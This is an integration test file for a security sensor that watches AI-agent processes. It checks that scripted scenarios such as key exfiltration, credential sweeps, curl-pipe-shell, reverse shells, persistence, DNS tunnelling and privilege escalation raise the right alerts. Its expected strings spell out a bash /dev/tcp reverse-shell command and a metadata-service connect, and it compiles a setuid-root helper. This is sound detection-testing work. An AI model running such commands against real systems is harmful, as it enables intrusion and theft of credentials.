// The issue-12 rule pack under the live sensor (real kernel, gRPC, SQLite,
// hashing and DLP, the shipped CLI): a scripted agent (a bash script whose
// comm is `rulesagent`, test/fixtures/rules-agent.sh) runs one scenario per
// instance, each after the same benign warm-up (a project read, a public
// key, .env.example written, git reading its config, the usual API). Each
// instance raises exactly its expected rules; the hard negatives stay silent.
// One sensor start for the file; every wait is bounded.
//
// `git push` over ssh is modelled: no sshd here, so ssh opens the private key
// (OpenSSH loads it before connecting) and connects to a loopback port that
// the agent's grants name as its git host, where a server answers with an
// SSH banner and hangs up.
import { execFile, execFileSync, spawnSync } from 'node:child_process';
import { promisify } from 'node:util';
import { createSocket, type Socket } from 'node:dgram';
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync, chmodSync } from 'node:fs';
import { createServer, type Server as HttpServer } from 'node:http';
import { createServer as createTcpServer, type Server as TcpServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { BIN, ROOT, skipReason, startSensorRun, stopSensorRun, until, type Proc } from './helpers/sensor-cli.js';

const execFileAsync = promisify(execFile);
const noSsh = spawnSync('ssh', ['-V']).status !== 0 || spawnSync('ssh-keygen', ['--help']).error !== undefined;
const skip = skipReason ?? (noSsh ? 'needs ssh and ssh-keygen' : null);
if (skip) console.warn(`detect-rules-live: skipping: ${skip}`);

interface Alert { agentPid: number; rule: string; severity: string; subject: string; summary: string }

describe.skipIf(skip !== null)('the rule pack under the live sensor', () => {
  let dir: string;
  let home: string;
  let proj: string;
  let stateDir: string;
  let run: Proc | undefined;
  const closers: (() => Promise<void> | void)[] = [];
  const ports: Record<string, number> = {};
  const agent = () => join(dir, 'bin', 'rulesagent');
  const cli = (...args: string[]) => execFileSync(process.execPath, [BIN, ...args], { encoding: 'utf8', timeout: 60_000 });
  const alerts = (): Alert[] => cli('alerts', '--state-dir', stateDir, '--json', '--limit', '10000').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Alert);
  const rulesOf = (pid: number) => [...new Set(alerts().filter((a) => a.agentPid === pid).map((a) => a.rule))].sort();

  // Asynchronous: the loopback servers of this process must answer while the agent runs.
  const scenario = async (name: string, how: { cwd?: string; argv0?: string[]; env?: Record<string, string> } = {}): Promise<number> => {
    const argv = [...(how.argv0 ?? []), agent(), name];
    const { stdout } = await execFileAsync(argv[0]!, argv.slice(1), {
      encoding: 'utf8', timeout: 30_000, cwd: how.cwd,
      env: { PATH: '/usr/local/bin:/usr/bin:/bin', HOME: home, PROJ: proj, DIR: dir, STATE: stateDir, ...Object.fromEntries(Object.entries(ports).map(([k, v]) => [k, String(v)])), ...how.env },
    });
    return Number(stdout.trim().split('\n').at(-1));
  };
  /** Until the instance's exit is stored and its reads hashed (the content feed judged), then the expected rules or the bound. */
  const judged = async (pid: number, expected: string[]) => {
    await until(() => {
      const list = cli('agents', '--state-dir', stateDir, '--json', '--instances', '1000').trim().split('\n').filter(Boolean).map((l) => JSON.parse(l)) as
        { instances: { agentPid: number; end: string | null }[] }[];
      return list.some((a) => a.instances.some((i) => i.agentPid === pid && i.end !== null));
    }, `instance ${pid} judged`, 30_000);
    const deadline = Date.now() + 8000;
    while (Date.now() < deadline && expected.some((r) => !rulesOf(pid).includes(r))) await new Promise((r) => setTimeout(r, 250));
    await new Promise((r) => setTimeout(r, 1500)); // anything more would be stored by now
    return rulesOf(pid);
  };

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'rules-live-'));
    home = join(dir, 'home');
    proj = join(dir, 'proj');
    stateDir = join(dir, 'state');
    for (const d of ['bin', 'home/.ssh', 'home/.aws', 'home/.kube', 'home/.docker', 'proj/src']) mkdirSync(join(dir, d), { recursive: true });
    copyFileSync(join(ROOT, 'test/fixtures/rules-agent.sh'), agent());
    chmodSync(agent(), 0o755);
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'live', '-f', join(home, '.ssh', 'id_ed25519')]);
    writeFileSync(join(home, '.aws', 'credentials'), '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n');
    writeFileSync(join(home, '.kube', 'config'), 'apiVersion: v1\n');
    writeFileSync(join(home, '.docker', 'config.json'), '{}\n');
    writeFileSync(join(home, '.gitconfig'), '[user]\n\tname = dev\n');
    for (let i = 0; i < 25; i++) writeFileSync(join(proj, 'src', `m${i}.py`), `x = ${i}\n`);
    writeFileSync(join(proj, 'src', 'app.py'), 'print(1)\n');
    execFileSync('git', ['init', '-q', proj]);
    const key = readFileSync(join(home, '.ssh', 'id_ed25519'));
    writeFileSync(join(dir, 'notes.txt'), Buffer.concat([Buffer.from('deploy notes\n'), key])); // pasted under another name
    writeFileSync(join(dir, 'blob.b64'), key.toString('base64')); // a base64 copy

    const tcp = async (onConn: (s: import('node:net').Socket) => void): Promise<number> => {
      const open = new Set<import('node:net').Socket>();
      const srv: TcpServer = createTcpServer((s) => { open.add(s); s.on('close', () => open.delete(s)); s.on('error', () => undefined); onConn(s); });
      await new Promise<void>((r) => srv.listen(0, '127.0.0.1', r));
      closers.push(() => new Promise((r) => { for (const s of open) s.destroy(); srv.close(() => r()); }));
      return (srv.address() as { port: number }).port;
    };
    ports.API = await tcp((s) => s.end());
    ports.NEWPORT = await tcp((s) => s.end());
    ports.GIT = await tcp((s) => s.end('SSH-2.0-OpenSSH_9.2 test\r\n'));
    const trueBin = readFileSync('/bin/true');
    const http: HttpServer = createServer((req, res) => {
      req.resume();
      req.on('end', () => {
        if (req.url === '/dropper') res.end(trueBin);
        else if (req.url === '/install.sh') res.end('true\n');
        else res.end('ok\n');
      });
    });
    await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
    closers.push(() => new Promise((r) => { http.closeAllConnections(); http.close(() => r()); }));
    ports.FILES = (http.address() as { port: number }).port;
    const dns: Socket = createSocket('udp4');
    dns.on('message', (msg, peer) => {
      if (msg.length >= 12) dns.send(Buffer.concat([Buffer.from([msg[0]!, msg[1]!, 0x81, 0x83]), msg.subarray(4)]), peer.port, peer.address); // NXDOMAIN
    });
    await new Promise<void>((r, j) => { dns.once('error', j); dns.bind(53, '127.0.0.2', () => r()); });
    closers.push(() => new Promise((r) => dns.close(() => r())));

    writeFileSync(join(dir, 'agents.yaml'), [
      'agents:',
      '  - name: rulesagent',
      '    comm: ["rulesagent"]',
      '    grants:',
      `      connect: ["127.0.0.1:${ports.API}", "127.0.0.1:${ports.GIT}", "127.0.0.1:${ports.FILES}", "127.0.0.2:53"]`,
      '',
    ].join('\n'));
    // No passwd of our own: root's home there is /root; `~` for the agents is the HOME they run with.
    run = await startSensorRun(stateDir, join(dir, 'c.sock'), ['--config', join(dir, 'agents.yaml')]);
  }, 120_000);

  afterEach((ctx) => {
    if (ctx.task.result?.state === 'fail' && run) console.log(run.err().slice(-4000));
  });

  afterAll(async () => {
    if (run) await stopSensorRun(run);
    for (const c of closers) await c();
    if (dir && !process.env.KEEP_RULES_LIVE) rmSync(dir, { recursive: true, force: true });
  });

  it('hard negatives: the warm-up, git push over ssh to the usual host, ssh-keygen -l by the user', async () => {
    execFileSync('ssh-keygen', ['-l', '-f', join(home, '.ssh', 'id_ed25519')]); // the user, not an agent
    const pid = await scenario('benign');
    expect(await judged(pid, [])).toEqual([]);
    // the key open was tagged and its content scanned: the silence is the consumer rule, not blindness
    const opens = cli('query', '--state-dir', stateDir, '--json', '--agent-pid', String(pid), '--sensitive', 'ssh-private-key').trim().split('\n').filter(Boolean).map((l) => JSON.parse(l));
    expect(opens.length).toBeGreaterThan(0);
    expect(opens[0].comm).toBe('ssh');
    expect(opens[0].sensitive).toEqual(expect.arrayContaining(['ssh-private-key']));
  }, 60_000);

  it('a private key read by cat then a new loopback port: exfiltration (critical)', async () => {
    const pid = await scenario('keyread');
    expect(await judged(pid, ['exfiltration'])).toEqual(['exfiltration', 'policy_violation']);
    const a = alerts().find((x) => x.agentPid === pid && x.rule === 'exfiltration')!;
    expect(a.severity).toBe('critical');
    expect(a.summary).toMatch(/ssh-private-key/);
  }, 60_000);

  it('a kubeconfig read through a hard link the agent made, then a new port: exfiltration, naming the class', async () => {
    const pid = await scenario('hardlink');
    expect(await judged(pid, ['exfiltration'])).toContain('exfiltration');
    const a = alerts().find((x) => x.agentPid === pid && x.rule === 'exfiltration')!;
    expect(a.summary).toMatch(/kube-config/);
  }, 60_000);

  it('copies of that key under another name and in base64: secret_copy_read', async () => {
    const copy = await scenario('copy');
    expect(await judged(copy, ['secret_copy_read'])).toEqual(['secret_copy_read']);
    const b64 = await scenario('b64');
    expect(await judged(b64, ['secret_copy_read'])).toEqual(['secret_copy_read']);
    expect(alerts().find((x) => x.agentPid === b64)!.summary).toMatch(/blob\.b64: it holds the private-key first found in .*id_ed25519/);
  }, 90_000);

  it('a cloud credential sweep, /etc/shadow', async () => {
    const cloud = await scenario('cloud');
    expect(await judged(cloud, ['credential_sweep'])).toEqual(['credential_sweep']);
    // `~` for it was the HOME it ran with (the sensor read it at the exec; the script was gone at once)
    const instances = cli('agents', '--state-dir', stateDir, '--json', '--instances', '1000').trim().split('\n').filter(Boolean)
      .flatMap((l) => (JSON.parse(l) as { instances: { agentPid: number; home: string | null }[] }).instances);
    expect(instances.find((i) => i.agentPid === cloud)?.home).toBe(home);
    expect(await judged(await scenario('shadow'), ['high_value_read'])).toEqual(['high_value_read']);
  }, 90_000);

  it('mass read, archive, upload; a binary dropped in /tmp and run; curl | sh', async () => {
    expect(await judged(await scenario('archive'), ['staging'])).toEqual(['staging']);
    expect(await judged(await scenario('drop'), ['ingress_exec'])).toEqual(['ingress_exec']);
    expect(await judged(await scenario('curlsh'), ['pipe_shell'])).toEqual(['pipe_shell']);
  }, 120_000);

  it('history wiped; persistence planted; a reverse shell; the sensor\'s state touched; a port scan; DNS labels carrying data to a loopback resolver', async () => {
    expect(await judged(await scenario('history'), ['defence_evasion'])).toEqual(['defence_evasion']);
    writeFileSync(join(home, '.profile'), '# rc\n');
    const persist = await scenario('persist');
    expect(await judged(persist, ['persistence'])).toEqual(['persistence']);
    const shell = await scenario('revshell');
    // its connect to a port nothing grants is a policy violation as well
    expect(await judged(shell, ['reverse_shell'])).toEqual(['policy_violation', 'reverse_shell']);
    expect(alerts().filter((a) => a.agentPid === shell && a.rule === 'reverse_shell').map((a) => `${a.severity} ${a.summary}`).sort()).toEqual([
      expect.stringMatching(/^critical rulesagent: reverse shell connected to 127\.0\.0\.1:\d+: a shell with its input and output on the network: bash -c bash -i >& /),
      expect.stringMatching(/^high rulesagent ran bash -c bash -i >& \/dev\/tcp\/127\.0\.0\.1\/\d+ 0>&1: a shell with its input and output on the network/),
    ]);
    const tamper = await scenario('tamper'); // the collector protects its own --state-dir
    expect(await judged(tamper, ['sensor_tamper'])).toEqual(['sensor_tamper']);
    // one alert per path (its delete is a repeat of it)
    expect(alerts().filter((a) => a.agentPid === tamper).map((a) => a.summary)).toEqual([
      expect.stringMatching(/opened for writing .*\/state\/agent-was-here: the sensor's own files .* by bash/),
    ]);
    const scan = await scenario('scan');
    expect(await judged(scan, ['network_scan'])).toContain('network_scan');
    expect(alerts().find((a) => a.agentPid === scan && a.rule === 'network_scan')?.summary).toMatch(/connected to 20 ports of 127\.0\.0\.1 within 30s \(1, 2, 3,/);
    const summaries = alerts().filter((a) => a.agentPid === persist && a.rule === 'persistence').map((a) => a.summary).sort();
    expect(summaries).toEqual([
      expect.stringMatching(/appended to .*\/\.bashrc, a shell start-up file \[T1546\.004\], by bash/),
      expect.stringMatching(/appended to .*\/\.ssh\/authorized_keys, SSH authorized keys \[T1098\.004\], by bash/),
      expect.stringMatching(/renamed .*\/sed\w+ onto .*\/\.profile, a shell start-up file \[T1546\.004\], by sed \(sed -i/),
    ]);
    expect(await judged(await scenario('dns'), ['dns_tunnel'])).toEqual(['dns_tunnel']);
    expect(cli('verify', '--state-dir', stateDir)).toMatch(/^OK/);
  }, 90_000);

  it("an unprivileged agent reaching root: su tried, then root through a setuid program; a project's data deleted wholesale, its dependencies not, its documents marked; the cloud metadata service", async () => {
    // The agent runs as nobody (setpriv execs it: same process, its user from the start); the
    // setuid-root helper lives in a folder nobody may enter, and hands its arguments root.
    const suid = mkdtempSync(join(tmpdir(), 'rules-live-suid-'));
    chmodSync(suid, 0o755);
    const src = join(suid, 'gainroot.c');
    writeFileSync(src, '#include <unistd.h>\nint main(int c, char **v) { (void)c; if (setuid(0) != 0) return 1; execv(v[1], v + 1); return 127; }\n');
    execFileSync('cc', ['-o', join(suid, 'gainroot'), src]);
    chmodSync(join(suid, 'gainroot'), 0o4755);
    const nobodyHome = join(suid, 'home');
    mkdirSync(nobodyHome, { mode: 0o755 });
    execFileSync('chown', ['65534:65534', nobodyHome]);
    copyFileSync(agent(), join(suid, 'rulesagent'));
    chmodSync(join(suid, 'rulesagent'), 0o755);
    try {
      const { stdout } = await execFileAsync('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', join(suid, 'rulesagent'), 'rootgain'], {
        encoding: 'utf8', timeout: 30_000, cwd: nobodyHome,
        env: { PATH: '/usr/local/bin:/usr/bin:/bin', HOME: nobodyHome, PROJ: nobodyHome, DIR: suid, STATE: stateDir, GAINROOT: join(suid, 'gainroot'), API: String(ports.API) },
      });
      const gain = Number(stdout.trim().split('\n').at(-1));
      expect(await judged(gain, ['privilege_escalation'])).toEqual(['privilege_escalation']);
      expect(alerts().filter((a) => a.agentPid === gain).map((a) => `${a.severity} ${a.summary}`).sort()).toEqual([
        expect.stringMatching(/^critical rulesagent runs as uid 65534, and \/usr\/bin\/id -u acted as root \(uid 0, its exec\), by no sudo-like program of its own \[T1548\]$/),
        'high rulesagent (uid 65534) ran su -c true root: a command as another user [T1548.003]',
      ]);
    } finally {
      rmSync(suid, { recursive: true, force: true });
    }

    for (let i = 0; i < 60; i++) mkdirSync(join(proj, 'data', `d${i % 4}`), { recursive: true });
    for (let i = 0; i < 60; i++) writeFileSync(join(proj, 'data', `d${i % 4}`, `part-${i}.csv`), `${i}\n`);
    for (let i = 0; i < 80; i++) mkdirSync(join(proj, 'node_modules', `pkg${i % 8}`), { recursive: true });
    for (let i = 0; i < 80; i++) writeFileSync(join(proj, 'node_modules', `pkg${i % 8}`, `index${i}.js`), '\n');
    mkdirSync(join(proj, 'docs'));
    for (let i = 0; i < 60; i++) writeFileSync(join(proj, 'docs', `q${i}.docx`), `${i}\n`);
    const wipe = await scenario('wipe', { cwd: proj });
    expect(await judged(wipe, ['data_destruction'])).toEqual(['data_destruction']);
    expect(alerts().filter((a) => a.agentPid === wipe).map((a) => `${a.severity} ${a.subject}`).sort()).toEqual([
      `critical renamed:${proj}/docs:.locked`, `high files:${proj}/data`,
    ]);

    // the cloud metadata address, from another network namespace (its events count there too);
    // outside the agent's grants as well
    const imds = await scenario('imds');
    expect(await judged(imds, ['cloud_metadata'])).toEqual(['cloud_metadata', 'policy_violation']);
    expect(alerts().find((a) => a.agentPid === imds && a.rule === 'cloud_metadata')?.summary).toMatch(/^rulesagent connected to the cloud metadata service 169\.254\.169\.254:80 \(refused or unreachable here\).* by bash -c exec 3<> \/dev\/tcp\/169\.254\.169\.254\/80 \[T1552\.005\]$/);
  }, 90_000);
});
